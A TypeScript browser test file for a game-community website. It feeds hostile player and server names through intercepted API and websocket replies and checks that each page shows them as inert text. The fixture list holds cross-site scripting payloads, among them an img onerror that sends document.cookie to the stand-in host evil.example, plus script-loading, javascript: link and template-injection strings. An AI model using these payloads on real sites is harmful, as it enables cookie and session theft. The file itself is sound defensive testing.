import type { Page, Route } from 'playwright-core'
import { expect, inject, test } from 'vitest'
import { HOSTILE_NAMES } from '#simulator/community/names.ts'
import { type Visit, visitAlone } from './lib/browser.ts'
import { askSite } from './lib/network.ts'
import { topPlayer } from './lib/people.ts'
import { firstRow, footer } from './lib/table.ts'

const { steam_id: steamId } = await topPlayer()
const AVATARS = ['cdn.akamai.steamstatic.com', 'avatars.steamstatic.com']
const EVIL = 'evil.example'

const NAMES = [
  `<img src=x onerror=fetch('http://${EVIL}/'+document.cookie)>`,
  `"><svg/onload=fetch('//${EVIL}')>`,
  `<script src=//${EVIL}/x.js></script>`,
  `<a href="javascript:alert(1)">click</a>`,
  '{{7*7}}',
  '\u202Egnp.yenom\u202C',
]

const NAME_KEYS = new Set([
  ...['personaname', 'player_name', 'handle_at_ban', 'server_name', 'map_name_trans', 'name'],
  ...['reason', 'banned_by'],
])

/** Gives every name in a text of JSON one of the hostile ones, in turn. */
function withHostileNames(json: string): string {
  const turns = new Map<string, number>()
  const renamed = (key: string, value: unknown) => {
    if (!NAME_KEYS.has(key)) return value
    const turn = turns.get(key) ?? 0
    turns.set(key, turn + 1)
    return NAMES[turn % NAMES.length]
  }
  return JSON.stringify(JSON.parse(json), renamed)
}

async function renameAll(page: Page): Promise<void> {
  await page.route('**/api/**', async (route: Route) => {
    const reply = await askSite(route)
    await route.fulfill({ response: reply, body: withHostileNames(await reply.text()) })
  })
  await page.routeWebSocket('**/websocket/servers', (socket) => {
    const players = NAMES.map((name, index) => ({ index, name, score: 0, duration: 0 }))
    socket.send(JSON.stringify({ server_id: 1, players, info: { current_status: 1 }, map_info: null }))
  })
}

interface Watch {
  reached: Set<string> // hosts beside our own
  dialogs: string[]
  violations(): Promise<string[]> // of the content security policy, on the page that is open
}

async function watch({ page, context }: Visit): Promise<Watch> {
  const reached = new Set<string>()
  const dialogs: string[] = []
  context.on('request', (request) => {
    const { host, protocol } = new URL(request.url())
    if (protocol.startsWith('http') && host !== new URL(inject('siteUrl')).host) reached.add(host)
  })
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
      const list = document.documentElement.dataset.violations ?? ''
      document.documentElement.dataset.violations = `${list} ${blockedURI}`
    })
  })
  const violations = async () =>
    (await page.evaluate(() => document.documentElement.dataset.violations ?? '')).split(' ').filter(Boolean)
  return { reached, dialogs, violations }
}

const SCREENS = [
  ['/servers', NAMES],
  ['/leaderboard/1', NAMES],
  [`/player/${steamId}/1`, NAMES.slice(0, 1)],
  [`/player/${steamId}/1?tab=teamkill`, NAMES.slice(0, 1)],
  ['/bans', NAMES],
  ['/admins', NAMES],
  ['/teamkill/teamkills', NAMES],
  ['/weapon/6', NAMES],
  ['/maps', NAMES],
] as const

test('names that are markup, code or turned around are shown as text and do nothing', async () => {
  const visitor = await visitAlone()
  const { page, complaints } = visitor
  const { reached, dialogs, violations } = await watch(visitor)
  await renameAll(page)
  for (const [path, names] of SCREENS) {
    await page.goto(path)
    for (const name of names) await page.locator('main').getByText(name).filter({ visible: true }).first().waitFor()
    expect(await page.locator('main script, main iframe, img[src="x"], [onerror], [onload]').count(), path).toBe(0)
    expect(await page.locator('a[href^="javascript:"]').count(), path).toBe(0)
    expect(await violations(), path).toEqual([])
  }
  await page.goto('/info/rules')
  await page.locator('.markdown').first().waitFor() // read by the browser, by the one way there is
  expect([...reached].filter((host) => !AVATARS.includes(host))).toEqual([])
  expect(dialogs).toEqual([])
  expect(complaints).toEqual([])
  expect(await page.evaluate(parseElsewhere), 'HTML from anywhere else is not').toBe('TypeError')
})

function parseElsewhere(): string {
  try {
    document.createElement('p').innerHTML = '<b>parsed</b>'
    return 'parsed'
  } catch (error) {
    return (error as Error).name
  }
}

test('the hostile names that are really stored come out as they went in', async () => {
  const visitor = await visitAlone('phone')
  const { page, complaints } = visitor
  const { reached, dialogs, violations } = await watch(visitor)
  const [name = ''] = HOSTILE_NAMES
  await page.goto('/admins')
  await page.getByRole('searchbox').fill(name.toUpperCase())
  await footer(page, /^1–\d+ of \d+ \(18 total\)$/)
  await firstRow(page).getByRole('link', { name, exact: true }).click()
  await page.getByRole('heading', { level: 1, name }).waitFor()
  expect(await page.title()).toContain(name)
  await page.goto('/leaderboard/1')
  await page.getByRole('searchbox').fill('drop table players')
  await footer(page, /^(1–\d+ of \d+ \([\d,]+ total\)|No results)$/)
  await page.goto('/bans')
  await footer(page, /^1–15 of \d+$/)
  expect(await violations()).toEqual([])
  expect([...reached].filter((host) => !AVATARS.includes(host))).toEqual([])
  expect(dialogs).toEqual([])
  expect(complaints).toEqual([])
})
